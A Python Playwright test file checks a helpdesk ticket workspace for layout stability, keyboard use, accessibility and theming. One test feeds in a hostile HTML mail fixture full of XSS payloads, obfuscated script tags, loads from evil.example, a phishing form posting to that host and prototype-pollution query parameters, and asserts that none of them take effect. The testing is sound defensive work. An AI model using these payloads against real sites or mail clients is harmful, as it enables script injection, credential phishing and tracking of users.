"""The workspace in a real browser: nothing jumps, nothing is lost, keys and no keys, hostile mails, axe."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import axe

NUMBER = iter(range(1, 1000))
expect.set_options(timeout=15_000)


def mail(product, subject: str, text: str = "Hello.", html: str = "", sender: str = "kim@alpha.example") -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = f"Kim Jensen <{sender}>", "support@desk.example", subject
    message["Message-ID"] = f"<workspace-{next(NUMBER)}@alpha.example>"
    message["Date"] = "Sun, 22 Nov 2026 10:00:00 +0100"
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    product.send(message.as_bytes(), sender)


def opened(product, page: Page, subject: str, **mailed: str) -> None:
    """A mail arrives, and its ticket is opened from the list."""
    mail(product, subject, **mailed)
    page.goto("/tickets/")
    page.get_by_role("link", name=subject).click()
    expect(page.get_by_role("heading", name=subject)).to_be_visible()


def test_the_row_under_the_pointer_stays_while_tickets_arrive(product, visit):
    mail(product, "Stays in place")
    page = visit("ana", "/tickets/")
    row = page.locator("[data-ticket]", has=page.get_by_role("link", name="Stays in place"))
    expect(row).to_be_visible()
    row.hover()
    before = row.bounding_box()

    mail(product, "Arrives above it")
    waiting = page.locator("[data-live-waiting]")
    expect(waiting).to_be_visible()

    assert row.bounding_box() == before
    expect(page.get_by_role("link", name="Arrives above it")).to_have_count(0)

    page.mouse.move(5, 5)
    expect(page.locator("[data-ticket]").first).to_contain_text("Arrives above it")
    expect(waiting).to_be_hidden()


def test_words_and_focus_stay_while_a_message_arrives(product, visit):
    ana = visit("ana", "/tickets/")
    opened(product, ana, "Two at once")
    bea = visit("bea", ana.url.removeprefix(product.url))
    ana.get_by_label("Your words").fill("Half a sen")

    bea.keyboard.press("n")
    bea.keyboard.type("Called Kim, she is fine.")
    bea.keyboard.press("Control+Enter")

    expect(ana.get_by_text("Called Kim, she is fine.")).to_be_visible()
    expect(ana.locator("#composer-said").get_by_text("Bea Lund wrote just now.")).to_be_visible()
    expect(ana.locator("#announce")).to_have_text("Bea Lund wrote just now.")
    expect(ana.get_by_label("Your words")).to_be_focused()
    expect(ana.get_by_label("Your words")).to_have_value("Half a sen")


def test_the_day_is_done_with_the_keyboard_alone(product, visit):
    mail(product, "By keyboard")
    page = visit("ana", "/tickets/")
    expect(page.get_by_role("link", name="By keyboard")).to_be_visible()

    page.keyboard.press("j")
    expect(page.locator("[data-open]").first).to_be_focused()
    page.keyboard.press("o")
    expect(page.get_by_role("heading", name="By keyboard")).to_be_visible()
    page.keyboard.press("a")
    page.get_by_label("Find an agent").press_sequentially("Bea")
    page.keyboard.press("Enter")
    expect(page.locator("#ticket-head")).to_contain_text("Bea Lund")
    page.keyboard.press("r")
    page.keyboard.type("Hello Kim,")
    page.keyboard.press("Control+Enter")
    expect(page.locator("article.message--agent")).to_contain_text("Hello Kim,")
    expect(page.get_by_label("Your words")).to_have_value("")
    page.keyboard.press("Escape")
    page.keyboard.press("e")
    expect(page.locator("#ticket-head")).to_contain_text("Solved")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Keys")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("u")
    expect(page).to_have_url(re.compile("/tickets/$"))


def test_undo_brings_the_words_back(product, visit):
    page = visit("ana", "/tickets/")
    opened(product, page, "Too early")
    page.get_by_label("Your words").fill("This is not finish")
    page.keyboard.press("Control+Enter")

    page.locator(".toast").get_by_role("button", name="Undo").click()

    expect(page.get_by_text("taken back, not sent")).to_be_visible()
    expect(page.get_by_label("Your words")).to_have_value("This is not finish")


def test_files_come_by_drop_and_can_be_let_go(product, visit):
    page = visit("ana", "/tickets/")
    opened(product, page, "With files")
    page.evaluate(
        """() => {
          const bag = new DataTransfer();
          bag.items.add(new File(["one"], "one.txt", { type: "text/plain" }));
          bag.items.add(new File(["two"], "two.txt", { type: "text/plain" }));
          const target = document.querySelector("#body");
          target.dispatchEvent(new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer: bag }));
        }"""
    )
    tiles = page.locator("#composer [data-files] .file")
    expect(tiles.locator("input[name=attachments]")).to_have_count(2)
    page.get_by_role("button", name="Remove one.txt").click()
    page.get_by_label("Your words").fill("See the file.")
    page.keyboard.press("Control+Enter")

    expect(page.locator("article.message--agent").get_by_text("two.txt")).to_be_visible()
    expect(page.get_by_text("one.txt")).to_have_count(0)


def test_without_javascript_a_ticket_is_read_answered_and_solved(product, visit):
    mail(product, "No scripts here", text="Can you read this?")
    page = visit("ana", "/tickets/")
    expect(page.get_by_role("link", name="No scripts here")).to_be_visible()
    cookies = page.context.cookies()
    plain = visit("", "/accounts/login/", java_script_enabled=False)
    plain.context.add_cookies(cookies)

    plain.goto("/tickets/")
    plain.get_by_role("link", name="No scripts here").click()
    expect(plain.get_by_text("Can you read this?")).to_be_visible()
    plain.get_by_label("Your words").fill("Yes, and **answer** it.")
    plain.get_by_role("button", name="Send", exact=False).first.click()
    expect(plain.locator("article.message--agent")).to_contain_text("Yes, and answer it.")
    plain.get_by_role("button", name="Solve", exact=True).click()
    expect(plain.locator("#ticket-head")).to_contain_text("Solved")


HOSTILE = """<html><head><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="prefetch" href="http://evil.example/p">
<style>@import url(http://evil.example/s.css); body{display:none}</style></head>
<body onload="parent.hacked=1"><h1>Quarterly figures</h1><script>parent.hacked=1;alert(1)</script>
<scr<script>ipt>parent.hacked=1</script><svg onload="parent.hacked=1"></svg>
<math><mtext><img src=x onerror="parent.hacked=1"></mtext></math>
<img src="http://evil.example/pixel.png"><a href="javascript:parent.hacked=1" id="submit" name="body">press me</a>
<form action="http://evil.example/"><input name="q"><button>Sign in</button></form><iframe src="http://evil.example/"></iframe>
<div style="position:fixed;inset:0;background:url(http://evil.example/b.png)">over everything</div></body></html>"""


def test_a_hostile_mail_runs_nothing_and_asks_nobody(product, visit):
    """C01, C04, C05, C06, C07: `visit` fails on any request that leaves the house and on any console error."""
    page = visit("ana", "/tickets/?a[__proto__][x]=1&constructor[prototype][y]=1")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    opened(product, page, "Quarterly figures of <script>alert(1)</script>", html=HOSTILE, text="Figures.")
    frame = page.frame_locator("iframe.mail-frame").first

    expect(frame.get_by_text("Quarterly figures")).to_be_visible()
    frame.get_by_text("press me").click()
    page.wait_for_timeout(500)

    assert page.evaluate("[window.hacked, ({}).x, ({}).y]") == [None, None, None]
    assert frame.locator("script, form, iframe, [onload], [onerror]").count() == 0
    assert page.url.startswith(product.url)
    page.get_by_label("Your words").fill("Still working")
    expect(page.get_by_label("Your words")).to_have_value("Still working")


def test_a_long_mail_gets_all_the_room_it_needs(product, visit):
    page = visit("ana", "/tickets/")
    rows = "".join(f"<tr><td>Row {n}</td></tr>" for n in range(80))
    opened(product, page, "A long table", html=f"<table>{rows}</table>", text="Rows.")
    frame = page.locator("iframe.mail-frame").first
    expect(frame).to_have_class(re.compile("is-fitted"))

    room, need = frame.evaluate("f => [f.clientHeight, f.contentDocument.documentElement.scrollHeight]")

    assert need > 1000
    assert room >= need


def test_the_head_of_a_note_fits_the_screen_of_a_phone(product, visit):
    number = product.ask("open_ticket", subject="Narrow", name="Somebody With A Rather Long Name")
    product.ask("act", ticket=number, agent="Ana", note="Small screens")
    page = visit("ana", f"/tickets/{number}/", viewport={"width": 320, "height": 700})

    note = page.locator(".message--note")
    expect(note).to_be_visible()
    head = note.locator(".message__head")
    assert head.evaluate("(one) => one.scrollWidth <= one.clientWidth")
    assert head.evaluate("(one) => one.lastElementChild.getBoundingClientRect().right <= innerWidth")


def test_the_filters_fit_the_screen_of_a_phone(visit):
    page = visit("ana", "/tickets/", viewport={"width": 390, "height": 844})

    page.locator("summary", has_text="Filter").click()
    expect(page.get_by_label("Solved", exact=True)).to_be_visible()

    panel = page.locator("details[open] > .menu__panel")
    left, right = panel.evaluate("(one) => [one.getBoundingClientRect().left, one.getBoundingClientRect().right]")
    assert 0 <= left < right <= 390
    assert panel.evaluate("(one) => one.scrollWidth <= one.clientWidth")


@pytest.mark.parametrize(
    "look", [{"color_scheme": "light"}, {"color_scheme": "dark"}, {"viewport": {"width": 390, "height": 844}}]
)
def test_axe_finds_nothing_in_the_workspace(product, visit, look):
    page = visit("ana", "/tickets/", **look)
    subject = f"For everybody {next(NUMBER)}"
    opened(product, page, subject, html="<p>Hello <b>there</b> <img src='http://x.example/a.png'></p>")
    ticket = page.url.removeprefix(product.url)

    for address in (ticket, f"{ticket}edit/", "/tickets/", "/tickets/narrow/", "/tickets/new/", "/tickets/987654/"):
        page.goto(address)
        page.wait_for_load_state("networkidle") if address == "/tickets/987654/" else page.wait_for_timeout(400)
        assert axe(page) == [], address
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{address} is too wide"


def test_the_theme_is_remembered_before_the_first_paint(product, visit):
    page = visit("ana", "/tickets/", color_scheme="light")
    page.get_by_label("Theme").click()
    page.get_by_role("button", name="Dark").click()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    page.wait_for_timeout(500)

    answer = page.request.get("/tickets/")

    assert 'data-theme="dark"' in answer.text()
    page.get_by_label("Theme").click()
    page.get_by_role("button", name="As the system").click()
    page.wait_for_timeout(500)
